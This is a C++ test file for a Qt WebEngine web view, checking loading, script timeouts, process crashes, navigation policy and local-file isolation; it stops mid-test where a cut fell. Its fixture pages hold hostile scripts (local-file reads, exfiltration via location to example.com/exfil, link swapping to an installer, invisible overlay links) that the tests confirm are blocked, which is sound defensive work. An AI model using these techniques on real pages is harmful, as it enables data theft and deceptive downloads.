// platform::WebView on the real engine: loading, scripts that always answer,
// navigation, new windows, local files, focus, and the death of the page's
// process.
#include "platform/runtime/alerts.h"
#include "platform/web/web_view.h"
#include "support/page_memory.h"
#include "support/stand_in_opener.h"
#include "web_test_support.h"

#include <QApplication>
#include <QBuffer>
#include <QColor>
#include <QImage>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLineEdit>
#include <QMessageBox>
#include <QMouseEvent>
#include <QTemporaryDir>
#include <QTimer>
#include <QVBoxLayout>
#include <QWebEnginePage>
#include <QWebEngineScriptCollection>

#include <algorithm>

#include <gtest/gtest.h>

#include <csignal>

using namespace web_test;

namespace {

class WebViewTest : public ::testing::Test {
protected:
    void SetUp() override {
        window.resize(800, 600);
        auto *layout = new QVBoxLayout(&window);
        layout->addWidget(field);
        layout->addWidget(view);
        window.show();
        view->setNavigationPolicy([this](const QUrl &url) {
            asked << url;
            return platform::WebView::Navigation::Leave;
        });
        view->setLinkHandler([this](const QUrl &url) { left << url; });
    }

    platform::ScriptedAlerts alerts;  // the user's answers
    QWidget window;
    QLineEdit *field = new QLineEdit;
    platform::WebView *view = new platform::WebView;
    QList<QUrl> asked;  // what the policy was asked about
    QList<QUrl> left;   // what reached the link handler
};

// The questions asked so far about clicked addresses, by address.
QStringList questions(const platform::ScriptedAlerts &alerts) {
    QStringList asked;
    for (const platform::Alert &alert : alerts.shown())
        if (alert.messageText == "Open this address?")
            asked << alert.informativeText;
    return asked;
}

// A picture of 37 × 23 pixels.
bool writePicture(const QString &path) {
    QImage picture(37, 23, QImage::Format_RGB32);
    picture.fill(Qt::red);
    return picture.save(path, "PNG");
}

// A PNG picture of `width` × `height` pixels all of `colour`, as a data:
// address.
QString pictureAddress(int width, int height, const QColor &colour) {
    QImage picture(width, height, QImage::Format_ARGB32);
    picture.fill(colour);
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    picture.save(&buffer, "PNG");
    return QStringLiteral("data:image/png;base64,") + QString::fromLatin1(bytes.toBase64());
}

bool writeFile(const QString &path, const QByteArray &bytes) {
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
}

}  // namespace

// The page stands for the document at its base URL, whatever its size (past
// 2 MB Qt's own loading shows an empty page): at the document's name on the
// view's own site, in folders as deep as the document's (named by nothing),
// where its relative references stay.
TEST_F(WebViewTest, LoadsHtmlOfAnySizeAtItsBaseUrl) {
    const QUrl base = QUrl::fromLocalFile("/tmp/notes/doc.md");
    ASSERT_EQ(load(*view, "<p><img src=\"pic.png\"><a href=\"../up.md\">up</a></p>", base), true);
    const QString site = view->site().origin().toString();
    EXPECT_TRUE(site.startsWith("orvane://")) << site.toStdString();
    EXPECT_EQ(evaluateText(*view, "document.location.href"), site + "///doc.md");
    EXPECT_EQ(evaluateText(*view, "document.images[0].src"), site + "///pic.png");
    EXPECT_EQ(evaluateText(*view, "document.links[0].href"), site + "//up.md");

    // Past 2 MB (see the preview's own test for a whole document). The
    // second such page, as large as the first, is built on a busy machine
    // without its memory reaching a new high, which is all a script's wait
    // goes by: a wait that only catches a hang.
    view->setScriptTimeout(std::chrono::minutes(2));
    QString big = "<!DOCTYPE html><html><head><style>p.x { color: rgb(1, 2, 3); }</style></head><body>";
    for (int i = 0; i < 40000; i++)
        big += QStringLiteral("<p class=\"x\">paragraph %1 with some words &amp; \"quotes\"</p>\n").arg(i);
    big += "</body></html>";
    ASSERT_GT(platform::WebView::dataUrlLength(big), platform::WebView::DataUrlLimit);
    ASSERT_EQ(load(*view, big, base), true);
    EXPECT_EQ(evaluate(*view, "document.body.children.length").toInt(), 40000);
    EXPECT_EQ(evaluateText(*view, "getComputedStyle(document.body.lastElementChild).color"), "rgb(1, 2, 3)");
    // Without a body the whole text is the body.
    ASSERT_EQ(load(*view, big.mid(big.indexOf("<p")), base), true);
    EXPECT_EQ(evaluate(*view, "document.body.children.length").toInt(), 40000);

    // Loads overlap: the one waiting is replaced by a newer one, and each
    // reports back once.
    QList<int> reports;
    view->loadHtml("<p>1</p>", base, [&](bool ok) { reports << (ok ? 1 : -1); });
    view->loadHtml("<p>2</p>", base, [&](bool ok) { reports << (ok ? 2 : -2); });
    view->loadHtml("<p>3</p>", base, [&](bool ok) { reports << (ok ? 3 : -3); });
    ASSERT_TRUE(waitUntil([&] { return reports.size() == 3; }));
    EXPECT_EQ(reports, QList<int>({-2, 1, 3}));
    EXPECT_EQ(evaluateText(*view, "document.body.innerHTML"), "<p>3</p>");
}

// A page that follows one holding much memory comes in a process of its own,
// and is built only once the process of the page before has ended: the two
// never hold their memory at once. Here each page keeps 300 MB in a script
// of its own, and the old page, let go, takes a second and a half to end (its
// "pagehide" busy), as a page of a gigabyte takes to free its nodes. In the
// old page's process, the new one would be built beside the old one's
// memory, let go but not yet collected.
TEST_F(WebViewTest, APageIsBuiltOnlyOnceTheOneBeforeItHasGoneWithItsMemory) {
    const QUrl base("file:///tmp/a.md");
    testing_proc::PageMemoryWatch memory(view->page());
    const QString page = "<script>window.kept = new Uint8Array(300 << 20).fill(1);"
                         " addEventListener('pagehide', function () {"
                         "  var end = Date.now() + 1500; while (Date.now() < end) {} });</script><p>%1</p>";
    ASSERT_EQ(load(*view, page.arg("first"), base), true);
    const qint64 one = memory.peak();
    ASSERT_GT(one, qint64(300) << 20);
    memory.restart();
    ASSERT_EQ(load(*view, page.arg("second"), base), true);
    EXPECT_EQ(evaluateText(*view, "document.body.textContent"), "second");
    EXPECT_LE(memory.peak(), one + one / 10);
    // The old page and an empty one, at most.
    EXPECT_LE(memory.peakTogether(), one + (qint64(200) << 20)) << "one page " << one;
}

// A script that runs too long is reported unfinished in time, its late answer
// is dropped, and the scripts after it answer.
TEST_F(WebViewTest, ScriptsAnswerOnceInTimeOrAsUnfinished) {
    ASSERT_EQ(load(*view, "<p>x</p>", QUrl("file:///tmp/a.md")), true);
    // The script says when it ends: the report comes before that, however
    // slowly this machine serves either.
    bool ended = false;
    QObject::connect(view, &platform::WebView::consoleMessage,
                     [&](const QString &message) { ended = ended || message == "ended"; });
    int calls = 0;
    bool finished = true;
    bool endedWhenReported = true;
    view->runScript(
        "var end = Date.now() + 5000; while (Date.now() < end) {} console.log('ended'); 'late'",
        [&](bool done, const QVariant &) {
            calls++;
            finished = done;
            endedWhenReported = ended;
        },
        std::chrono::milliseconds(200));
    ASSERT_TRUE(waitUntil([&] { return calls == 1; }));
    EXPECT_FALSE(endedWhenReported);
    EXPECT_FALSE(finished);
    EXPECT_EQ(evaluate(*view, "6 * 7").toInt(), 42);
    pause(100);
    EXPECT_EQ(calls, 1);

    // Each world has globals of its own.
    evaluate(*view, "var mine = 'page'");
    EXPECT_EQ(evaluateText(*view, "typeof mine"), "string");
    EXPECT_EQ(evaluate(*view, "typeof mine", QWebEngineScript::ApplicationWorld).toString(), "undefined");
}

// The page's process dies: what waited is answered as unfinished, the death is
// reported, and the next load brings the page back.
TEST_F(WebViewTest, SurvivesTheDeathOfThePagesProcess) {
    ASSERT_EQ(load(*view, "<p>x</p>", QUrl("file:///tmp/a.md")), true);
    int gone = 0;
    QObject::connect(view, &platform::WebView::renderProcessGone, [&](platform::PageProcess::End why) {
        gone++;
        EXPECT_EQ(why, platform::PageProcess::End::Crashed);
    });
    std::optional<bool> finished;
    view->runScript("while (true) {}", [&](bool done, const QVariant &) { finished = done; },
                    std::chrono::milliseconds(60000));
    pause(100);
    const qint64 pid = view->page()->renderProcessPid();
    ASSERT_GT(pid, 0);
    ::kill(pid_t(pid), SIGKILL);
    ASSERT_TRUE(waitUntil([&] { return finished.has_value(); }));
    EXPECT_FALSE(*finished);
    EXPECT_EQ(gone, 1);
    ASSERT_EQ(load(*view, "<p>back</p>", QUrl("file:///tmp/a.md")), true);
    EXPECT_EQ(evaluateText(*view, "document.body.textContent"), "back");
}

// The page's process dies just as a load begins, before the engine could
// report that load's end: the next load is told from it, and finishes
// (it waited out the whole load time, its end taken for the dead load's,
// and was then reported failed).
TEST_F(WebViewTest, ALoadAfterThePagesProcessDiedInTheMiddleOfOneFinishes) {
    const QUrl base("file:///tmp/a.md");
    ASSERT_EQ(load(*view, "<p>first</p>", base), true);
    for (int delay : {0, 5, 20}) {
        std::optional<bool> dying;
        view->loadHtml("<script>var end = Date.now() + 3000; while (Date.now() < end) {}</script><p>slow</p>", base,
                       [&](bool ok) { dying = ok; });
        pause(delay);
        const qint64 pid = view->page()->renderProcessPid();
        ASSERT_GT(pid, 0) << "after " << delay << " ms";
        ::kill(pid_t(pid), SIGKILL);
        ASSERT_TRUE(waitUntil([&] { return dying.has_value(); }));
        EXPECT_FALSE(*dying);
        ASSERT_EQ(load(*view, QStringLiteral("<p>back %1</p>").arg(delay), base), true) << "after " << delay << " ms";
        EXPECT_EQ(evaluateText(*view, "document.body.textContent"), QStringLiteral("back %1").arg(delay));
    }
}

// A load given up (its view hidden) reports at once that it did not
// finish, and so does the load that waited behind it; the engine stops
// taking the page in, and the next load finishes with its own page: given
// up as it begins, while the engine builds a slow page, and while a large
// page's body goes in.
TEST_F(WebViewTest, ALoadGivenUpReportsAtOnceAndTheNextLoadFinishes) {
    const QUrl base("file:///tmp/a.md");
    ASSERT_EQ(load(*view, "<p>first</p>", base), true);
    QString big = "<!DOCTYPE html><html><head></head><body>";
    for (int i = 0; i < 40000; i++)
        big += QStringLiteral("<p>paragraph %1 with some words</p>\n").arg(i);
    big += "</body></html>";
    const QString slow = "<script>var end = Date.now() + 3000; while (Date.now() < end) {}</script><p>slow</p>";
    int round = 0;
    for (const QString &given : {slow, big}) {
        for (int delay : {0, 20, 300}) {
            round++;
            QList<int> reports;
            view->loadHtml(given, base, [&](bool ok) { reports << (ok ? 1 : -1); });
            view->loadHtml("<p>waiting</p>", base, [&](bool ok) { reports << (ok ? 2 : -2); });
            pause(delay);
            if (reports.isEmpty())
                view->abandonLoad();
            EXPECT_EQ(reports, QList<int>({-1, -2})) << "round " << round;
            EXPECT_FALSE(view->isLoadingHtml());
            const QString next = QStringLiteral("next %1").arg(round);
            ASSERT_EQ(load(*view, "<p>" + next + "</p>", base), true) << "round " << round;
            EXPECT_EQ(evaluateText(*view, "document.body.textContent"), next);
        }
    }
}

// A page whose frame lacks the view's own scripts (the WebRTC removal, the
// click watch), as one the engine started after a page's process died on a
// busy machine: the view gives them to it again and loads it once more, and
// reports it loaded with them. Here the scripts are taken from the page's
// frame before a load and come back as its first page loads.
TEST_F(WebViewTest, APageThatCameWithoutTheViewsOwnScriptsIsLoadedAgainWithThem) {
    const QUrl base("file:///tmp/a.md");
    ASSERT_EQ(load(*view, "<p>first</p>", base), true);
    QWebEngineScriptCollection &scripts = view->page()->scripts();
    const QList<QWebEngineScript> own = scripts.toList();
    ASSERT_FALSE(own.isEmpty());
    auto sealed = [&] {
        return evaluate(*view, "typeof orvaneTakeClick", QWebEngineScript::ApplicationWorld).toString() == "function" &&
               evaluateText(*view, "typeof RTCPeerConnection") == "undefined";
    };
    EXPECT_TRUE(sealed());

    int loads = 0;
    QObject::connect(view->page(), &QWebEnginePage::loadFinished, [&](bool) {
        if (loads++ == 0)
            scripts.insert(own);
    });
    scripts.clear();
    ASSERT_EQ(load(*view, "<p>second</p>", base), true);
    EXPECT_EQ(loads, 2);
    EXPECT_TRUE(sealed());
    EXPECT_EQ(evaluateText(*view, "document.body.textContent"), "second");
}

// Every way a page can ask to go elsewhere reaches the policy, which here
// lets it leave: the page stays, and only what the user clicked reaches the
// link handler. Pages open no windows.
TEST_F(WebViewTest, PutsNavigationToThePolicyAndOpensNoWindows) {
    const QUrl base("file:///tmp/a.md");
    ASSERT_EQ(load(*view,
                   "<p id=\"top\"><a id=\"web\" href=\"https://example.com/x\">web</a>"
                   "<a id=\"file\" href=\"other.md\">file</a>"
                   "<a id=\"new\" href=\"https://example.com/new\" target=\"_blank\">new</a>"
                   "<a id=\"frag\" href=\"#end\">fragment</a></p>"
                   "<div style=\"height: 3000px\"></div><p id=\"end\">end</p>",
                   base),
              true);
    evaluate(*view, "document.getElementById('web').click()");
    evaluate(*view, "document.getElementById('file').click()");
    ASSERT_TRUE(waitUntil([&] { return asked.size() == 2; }));
    EXPECT_EQ(asked, QList<QUrl>({QUrl("https://example.com/x"), QUrl("file:///tmp/other.md")}));

    evaluate(*view, "location.href = 'https://example.org/'");
    ASSERT_TRUE(waitUntil([&] { return asked.size() == 3; }));
    EXPECT_EQ(asked.last(), QUrl("https://example.org/"));
    // The page's scripts clicked and navigated: nothing left.
    pause(300);
    EXPECT_TRUE(left.isEmpty());

    // A link that asks for a new window is put to the policy as a link when
    // the user clicks it.
    const QVariantList box = evaluate(*view, "var r = document.getElementById('new').getBoundingClientRect();"
                                             "[r.left + r.width / 2, r.top + r.height / 2]")
                                 .toList();
    ASSERT_EQ(box.size(), 2);
    click(*view, QPointF(box[0].toDouble(), box[1].toDouble()));
    ASSERT_TRUE(waitUntil([&] { return asked.size() == 4; }));
    EXPECT_EQ(asked.last(), QUrl("https://example.com/new"));
    ASSERT_TRUE(waitUntil([&] { return left.size() == 1; }));
    EXPECT_EQ(left.first(), QUrl("https://example.com/new"));
    // A script cannot open one at all.
    EXPECT_EQ(evaluateText(*view, "String(window.open('https://example.net/'))"), "null");
    pause(300);
    EXPECT_EQ(asked.size(), 4);

    // A fragment of the page is followed without asking.
    evaluate(*view, "document.getElementById('frag').click()");
    ASSERT_TRUE(waitUntil([&] { return evaluate(*view, "window.scrollY").toDouble() > 1000; }));
    EXPECT_EQ(asked.size(), 4);
    EXPECT_EQ(evaluateText(*view, "document.body.firstElementChild.id"), "top");
    EXPECT_EQ(left.size(), 1);
}

// A navigation the page's script makes as the user clicks a link takes
// nothing of the click: the user's link still leaves, and the script's
// address does not.
TEST_F(WebViewTest, AScriptsNavigationDuringTheUsersClickLeavesTheClickToItsLink) {
    ASSERT_EQ(load(*view,
                   "<p><a id=\"go\" href=\"https://example.com/go\">go</a></p>"
                   "<script>document.getElementById('go').addEventListener('mousedown', function () {"
                   " location.href = 'https://example.com/decoy'; });</script>",
                   QUrl("file:///tmp/a.md")),
              true);
    ASSERT_TRUE(clickElement(*view, "#go"));
    ASSERT_TRUE(waitUntil([&] { return asked.contains(QUrl("https://example.com/go")); }));
    ASSERT_TRUE(waitUntil([&] { return !left.isEmpty(); })) << QUrl::toStringList(asked).join(" ").toStdString();
    pause(300);
    EXPECT_EQ(left, QList<QUrl>({QUrl("https://example.com/go")}));
}

// A user's click is as old as it was when the engine asked about its
// navigation: a page whose thread is busy longer than a click may be old
// before it answers about the click (as on a loaded machine) still lets the
// link leave. A click whose default the page prevented lets nothing leave,
// not even the page's own navigation to that link just after.
TEST_F(WebViewTest, TheUsersClickCountsItsAgeUntilTheEngineAskedAndAPreventedOneLeavesNothing) {
    ASSERT_EQ(load(*view,
                   "<p><a id=\"busy\" href=\"https://example.com/busy\">busy</a>"
                   " <a id=\"kept\" href=\"https://example.com/kept\">kept</a></p>"
                   "<script>"
                   "document.getElementById('busy').addEventListener('click', function () {"
                   " setTimeout(function () { var end = Date.now() + 11000; while (Date.now() < end) {} }, 0); });"
                   "document.getElementById('kept').addEventListener('click', function (e) {"
                   " e.preventDefault(); setTimeout(function () { location.href = e.target.href; }, 100); });"
                   "</script>",
                   QUrl("file:///tmp/a.md")),
              true);
    ASSERT_TRUE(clickElement(*view, "#busy"));
    ASSERT_TRUE(waitUntil([&] { return !left.isEmpty(); }, 60000))
        << "the click was refused: " << QUrl::toStringList(asked).join(" ").toStdString();
    EXPECT_EQ(left, QList<QUrl>({QUrl("https://example.com/busy")}));

    ASSERT_TRUE(clickElement(*view, "#kept"));
    ASSERT_TRUE(waitUntil([&] { return asked.contains(QUrl("https://example.com/kept")); }));
    // The page's answer about its click comes once it is asked; then
    // nothing more may leave.
    EXPECT_EQ(evaluate(*view, "1", QWebEngineScript::ApplicationWorld).toInt(), 1);
    EXPECT_EQ(left, QList<QUrl>({QUrl("https://example.com/busy")}));
}

// A page cannot read a file of this machine, by script (XMLHttpRequest,
// fetch, a worker) or through a frame, yet it shows the pictures and style
// sheets beside it. Nothing a script does (setting location, clicking a
// link, opening a window, sending a form, a refresh) reaches the desktop's
// opener; a link the user clicks does, to a site or to a document beside the
// page, and a script that swaps the link's address as it is clicked gets
// nothing out.
TEST_F(WebViewTest, APageReadsNoLocalFileAndLeavesOnlyByTheUsersClick) {
    StandInOpener &opener = StandInOpener::install();
    opener.clear();
    view->setLinkHandler({});  // the user's applications, through the allowlist
    QTemporaryDir root;
    ASSERT_TRUE(QDir(root.path()).mkpath("doc") && QDir(root.path()).mkpath("home"));
    const QString secret = root.filePath("home/secret.txt");
    ASSERT_TRUE(writeFile(secret, "TOPSECRET-42\n"));
    ASSERT_TRUE(writeFile(root.filePath("home/setup.msi"), QByteArray("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8)));
    ASSERT_TRUE(writeFile(root.filePath("doc/setup.msi"), QByteArray("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8)));
    ASSERT_TRUE(writePicture(root.filePath("doc/pic.png")));
    ASSERT_TRUE(writeFile(root.filePath("doc/look.css"), "p.q { color: rgb(1, 2, 3); }"));
    ASSERT_TRUE(writeFile(root.filePath("doc/other notes.md"), "# Other\n"));
    const QUrl base = QUrl::fromLocalFile(root.filePath("doc/doc.md"));
    const QUrl secretUrl = QUrl::fromLocalFile(secret);
    const QUrl other = QUrl::fromLocalFile(root.filePath("doc/other notes.md"));

    QString page = R"html(<!DOCTYPE html><html><head><link rel="stylesheet" href="look.css"></head><body>
<p class="q">styled</p><img id="pic" src="pic.png">
<p><a id="site" href="https://example.com/clicked">site</a> <a id="scripted" href="https://example.com/scripted">x</a>
<a id="local" href="other%20notes.md">other</a> <a id="swapped" href="https://example.com/shown">swapped</a></p>
<form id="form" action="https://example.com/form"><input name="a" value="b"></form>
<iframe id="frame" style="display:none" src="@SECRET@"></iframe><object data="@SECRET@"></object>
<pre id="got"></pre>
<script>
var got = {};
function show() { document.getElementById('got').textContent = JSON.stringify(got); }
try { var x = new XMLHttpRequest(); x.open('GET', '@SECRET@', false); x.send(); got.xhr = x.responseText; }
catch (e) { got.xhr = 'refused'; }
fetch('@SECRET@').then(function (r) { return r.text(); }).then(function (t) { got.fetch = t; show(); },
                                                            function () { got.fetch = 'refused'; show(); });
try {
  var worker = new Worker(URL.createObjectURL(new Blob(["fetch('@SECRET@').then(function (r) { return r.text(); })" +
    ".then(postMessage, function () { postMessage('refused'); });"])));
  worker.onmessage = function (m) { got.worker = m.data; show(); };
} catch (e) { got.worker = 'refused'; }
document.getElementById('swapped').addEventListener('mousedown', function () { this.href = 'setup.msi'; });
var steps = [
  function () {
    var frame = document.getElementById('frame');
    try { got.frame = frame.contentDocument ? frame.contentDocument.documentElement.textContent : 'unreadable'; }
    catch (e) { got.frame = 'unreadable'; }
    show();
    top.location = 'https://example.com/exfil?d=' + encodeURIComponent(JSON.stringify(got));
  },
  function () { document.getElementById('scripted').click(); },
  function () { window.open('https://example.com/window'); },
  function () { location.href = 'other%20notes.md'; },
  function () { location.href = '@MSI@'; },
  function () { location.href = 'setup.msi'; },
  function () { document.getElementById('form').submit(); },
  function () { var m = document.createElement('meta'); m.httpEquiv = 'refresh';
                m.content = '0;url=https://example.com/refresh'; document.head.appendChild(m); }
];
steps.forEach(function (step, i) { setTimeout(step, 1000 + 250 * i); });
</script></body></html>)html";
    page.replace("@SECRET@", secretUrl.toString(QUrl::FullyEncoded))
        .replace("@MSI@", QUrl::fromLocalFile(root.filePath("home/setup.msi")).toString(QUrl::FullyEncoded));
    ASSERT_EQ(load(*view, page, base), true);

    // Every way out was tried and put to the policy, which let it leave.
    ASSERT_TRUE(waitUntil([&] { return asked.contains(QUrl("https://example.com/refresh")); }));
    EXPECT_TRUE(asked.contains(QUrl("https://example.com/scripted")));
    EXPECT_TRUE(asked.contains(other));
    // A form is not even sent: the page's policy refuses it first.
    EXPECT_FALSE(asked.contains(QUrl("https://example.com/form?a=b")));
    EXPECT_TRUE(std::any_of(asked.begin(), asked.end(), [](const QUrl &url) { return url.path() == "/exfil"; }));
    pause(2500);
    // Nothing was read, and nothing went out.
    const QJsonObject got = QJsonDocument::fromJson(evaluateText(*view, "document.getElementById('got').textContent").toUtf8()).object();
    EXPECT_EQ(got.value("xhr").toString(), "refused");
    EXPECT_EQ(got.value("fetch").toString(), "refused");
    EXPECT_EQ(got.value("worker").toString(), "refused");
    EXPECT_FALSE(got.value("frame").toString().contains("TOPSECRET"));
    EXPECT_FALSE(evaluateText(*view, "document.documentElement.outerHTML").contains("TOPSECRET"));
    EXPECT_EQ(opener.calls(), QStringList());
    EXPECT_EQ(evaluateText(*view, "document.location.href"), view->site().pageUrl().toString());  // still the page
    // What the page shows from beside it still shows.
    EXPECT_EQ(evaluateText(*view, "var p = document.getElementById('pic'); p.naturalWidth + 'x' + p.naturalHeight"),
              "37x23");
    EXPECT_EQ(evaluateText(*view, "getComputedStyle(document.querySelector('p.q')).color"), "rgb(1, 2, 3)");

    // The user's clicks: a site, a document beside the page; a link whose
    // address the page swaps for an installer as it is clicked is asked
    // about, and even after the user's yes gets nothing, which the user is
    // told once.
    ASSERT_TRUE(clickElement(*view, "#site"));
    ASSERT_TRUE(waitUntil([&] { return opener.calls().size() == 1; }));
    EXPECT_EQ(opener.calls().last(), "https://example.com/clicked");
    ASSERT_TRUE(clickElement(*view, "#local"));
    ASSERT_TRUE(waitUntil([&] { return opener.calls().size() == 2; }));
    EXPECT_EQ(opener.calls().last(), QString::fromUtf8(other.toEncoded()));
    EXPECT_EQ(alerts.count(), 0);
    alerts.addAnswers({0});
    ASSERT_TRUE(clickElement(*view, "#swapped"));
    ASSERT_TRUE(waitUntil([&] { return asked.last().path().endsWith("setup.msi"); }));
    ASSERT_TRUE(waitUntil([&] { return alerts.count() == 2; }));
    pause(1000);
    EXPECT_EQ(opener.calls().size(), 2);
    const QString installer = QString::fromUtf8(QUrl::fromLocalFile(root.filePath("doc/setup.msi")).toEncoded());
    EXPECT_EQ(questions(alerts), QStringList{installer});
    EXPECT_EQ(alerts.shown().last().messageText, "Not Opened");
    EXPECT_TRUE(alerts.shown().last().informativeText.contains(installer));
    EXPECT_EQ(alerts.count(), 2);
}

// A click opens at once only an address the page's HTML writes as a link.
// A link a script laid over the page, or whose address it changed as the
// user pressed the button, leads to a question with the whole address:
// Cancel opens nothing, Open opens it. A script that gives a link the
// address of another written link changes nothing that matters.
TEST_F(WebViewTest, AClickOpensAWrittenLinkAtOnceAndAsksAboutAnyOther) {
    ASSERT_EQ(load(*view,
                   "<p id=\"text\">Plain text of the diary: nobody knows.</p>"
                   "<p><a id=\"written\" href=\"https://example.com/written\">written</a>"
                   " <a id=\"rewritten\" href=\"https://example.com/rewritten\">rewritten</a>"
                   " <a id=\"swapped\" href=\"https://example.com/swapped\">swapped</a>"
                   " <a id=\"other\" href=\"https://example.com/other#part\">other</a></p>"
                   "<div style=\"height: 2000px\"></div>"
                   "<script>"
                   "document.getElementById('rewritten').addEventListener('mousedown', function () {"
                   " this.href = 'https://example.com/out?d=diary%20entry%3A%20nobody%20knows'; });"
                   "document.getElementById('swapped').addEventListener('mousedown', function () {"
                   " this.href = document.getElementById('other').getAttribute('href'); });"
                   "function cover() { var a = document.createElement('a'); a.id = 'cover';"
                   " a.href = 'https://example.com/cover?d=' + encodeURIComponent(document.getElementById('text')"
                   ".textContent); a.style.cssText = 'position:fixed;left:0;top:0;right:0;bottom:0;opacity:0';"
                   " document.body.appendChild(a); }"
                   "</script>",
                   QUrl("file:///tmp/a.md")),
              true);
    ASSERT_TRUE(clickElement(*view, "#written"));
    ASSERT_TRUE(waitUntil([&] { return left.size() == 1; }));
    EXPECT_EQ(left.last(), QUrl("https://example.com/written"));
    ASSERT_TRUE(clickElement(*view, "#swapped"));
    ASSERT_TRUE(waitUntil([&] { return left.size() == 2; }));
    EXPECT_EQ(left.last(), QUrl("https://example.com/other#part"));
    EXPECT_EQ(alerts.count(), 0);

    // The page covers itself with a link that holds its text: a click on the
    // text asks, in full.
    evaluate(*view, "cover()");
    const QString cover = "https://example.com/cover?d=Plain%20text%20of%20the%20diary%3A%20nobody%20knows.";
    alerts.addAnswers({1, 0});
    ASSERT_TRUE(clickElement(*view, "#text"));
    ASSERT_TRUE(waitUntil([&] { return alerts.count() == 1; }));
    pause(500);
    EXPECT_EQ(left.size(), 2);
    ASSERT_TRUE(clickElement(*view, "#text"));
    ASSERT_TRUE(waitUntil([&] { return left.size() == 3; }));
    EXPECT_EQ(left.last(), QUrl(cover));
    EXPECT_EQ(questions(alerts), QStringList({cover, cover}));
    EXPECT_EQ(alerts.shown().first().buttons, QStringList({"Open", "Cancel"}));

    // A written link whose address a script changes as the button goes down.
    evaluate(*view, "document.getElementById('cover').remove()");
    alerts.addAnswers({1});
    ASSERT_TRUE(clickElement(*view, "#rewritten"));
    ASSERT_TRUE(waitUntil([&] { return alerts.count() == 3; }));
    pause(500);
    EXPECT_EQ(questions(alerts).last(), "https://example.com/out?d=diary%20entry%3A%20nobody%20knows");
    EXPECT_EQ(left.size(), 3);
}

// A click opens a link the page's HTML writes at once only when the user
// saw it where the click fell. A link faded, transparent, too pale to read
// or too small, one under a veil that lets the pointer through, or one
// stretched over the page nearly transparent (a click on plain text under
// it): each is asked about with its whole address. A link plainly shown,
// by its text, its picture or an area of a picture's map, opens at once.
TEST_F(WebViewTest, AClickOpensAWrittenLinkAtOnceOnlyWhereTheUserSawIt) {
    ASSERT_EQ(load(*view,
                   QStringLiteral(R"html(<!DOCTYPE html><html><head><style>
body { font: 16px sans-serif; background: #fff; color: #222; }
a { margin-right: 2em; }
#veil { position: absolute; pointer-events: none; background: #fff; color: #222; }
</style></head><body>
<p id="text">Plain text of the diary: nobody knows.</p>
<p><a id="plain" href="https://example.com/plain">plain</a>
<a id="faint" href="https://example.com/faint" style="opacity: 0.2">faint</a>
<a id="clear" href="https://example.com/clear" style="color: transparent">clear</a>
<a id="pale" href="https://example.com/pale" style="color: #fdfdfd">pale</a>
<a id="tiny" href="https://example.com/tiny" style="font-size: 2px">tiny</a>
<a id="veiled" href="https://example.com/veiled">veiled</a>
<a id="more" href="https://example.com/more">more</a>
<a id="pictured" href="https://example.com/pictured"><img width="40" height="30" alt="" src="@GREEN@"></a>
<img id="mapped" width="40" height="30" alt="" src="@GREEN@" usemap="#places"><map name="places">
<area shape="rect" coords="0,0,40,30" href="https://example.com/area" alt="area"></map></p>
<div id="veil">a harmless word</div>
<div style="height: 2000px"></div>
<script>
var veiled = document.getElementById('veiled').getBoundingClientRect(), veil = document.getElementById('veil');
veil.style.left = (veiled.left + window.scrollX - 4) + 'px';
veil.style.top = (veiled.top + window.scrollY - 4) + 'px';
veil.style.width = (veiled.width + 8) + 'px'; veil.style.height = (veiled.height + 8) + 'px';
function stretch() {
  document.getElementById('more').style.cssText = 'position: fixed; left: 0; top: 0; right: 0; bottom: 0; opacity: 0.01';
}
</script></body></html>)html")
                       .replace("@GREEN@", pictureAddress(1, 1, QColor(0, 160, 0))),
                   QUrl("file:///tmp/a.md")),
              true);
    ASSERT_TRUE(clickElement(*view, "#plain"));
    ASSERT_TRUE(waitUntil([&] { return left.size() == 1; }));
    EXPECT_EQ(left.last(), QUrl("https://example.com/plain"));
    ASSERT_TRUE(clickElement(*view, "#pictured img"));
    ASSERT_TRUE(waitUntil([&] { return left.size() == 2; }));
    EXPECT_EQ(left.last(), QUrl("https://example.com/pictured"));
    ASSERT_TRUE(clickElement(*view, "#mapped"));
    ASSERT_TRUE(waitUntil([&] { return left.size() == 3 || alerts.count() > 0; }));
    EXPECT_EQ(left.last(), QUrl("https://example.com/area"));
    EXPECT_EQ(alerts.count(), 0);

    QStringList expected;
    for (const char *hidden : {"faint", "clear", "pale", "tiny", "veiled"}) {
        alerts.addAnswers({1});
        ASSERT_TRUE(clickElement(*view, QStringLiteral("#") + hidden));
        expected << QStringLiteral("https://example.com/") + hidden;
        ASSERT_TRUE(waitUntil([&] { return questions(alerts).size() == expected.size(); })) << hidden;
    }
    // Stretched over the page: the user clicked plain text.
    evaluate(*view, "stretch()");
    alerts.addAnswers({1});
    ASSERT_TRUE(clickElement(*view, "#text"));
    expected << "https://example.com/more";
    ASSERT_TRUE(waitUntil([&] { return questions(alerts).size() == expected.size(); }));
    pause(500);
    EXPECT_EQ(questions(alerts), expected);
    EXPECT_EQ(left.size(), 3);
}

// A link the page's HTML writes, drawn so that the user does not see its
// text or picture where the click falls, or not at all: each is asked about
// with its whole address, and Cancel opens nothing. Each page holds one
// such link and a line of plain text; the click falls on the link's own
// text or picture, or on the plain text where the link lies over it.
TEST_F(WebViewTest, AClickAsksAboutAWrittenLinkWhoseInkTheUserCouldNotSeeThere) {
    const QString clear = pictureAddress(1, 1, Qt::transparent), white = pictureAddress(1, 1, Qt::white);
    const QString blue = pictureAddress(40, 30, Qt::blue);
    struct Case {
        const char *name;  // the link leads to https://example.com/<name>
        QString html;      // @ stands for that address
        const char *click;
    };
    const QList<Case> cases = {
        // White letters of a drawing: the text's colour is not what fills them.
        {"svg-fill",
         R"h(<svg width="200" height="40"><a href="@"><text x="10" y="25" font-size="20" fill="#fff">svgfill</text></a></svg>)h",
         "svg text"},
        // A clear picture over the whole page, a link.
        {"clear-cover",
         R"h(<a href="@"><img alt="" src=")h" + clear +
             R"h(" style="position: fixed; left: 0; top: 0; width: 100%; height: 100%"></a>)h",
         "#text"},
        {"clip-path",
         R"h(<p><a href="@"><span style="display: inline-block; clip-path: inset(0 0 0 100%)">clipped</span></a></p>)h",
         "a"},
        // Black text over a black block laid beside it, under it.
        {"black-sibling",
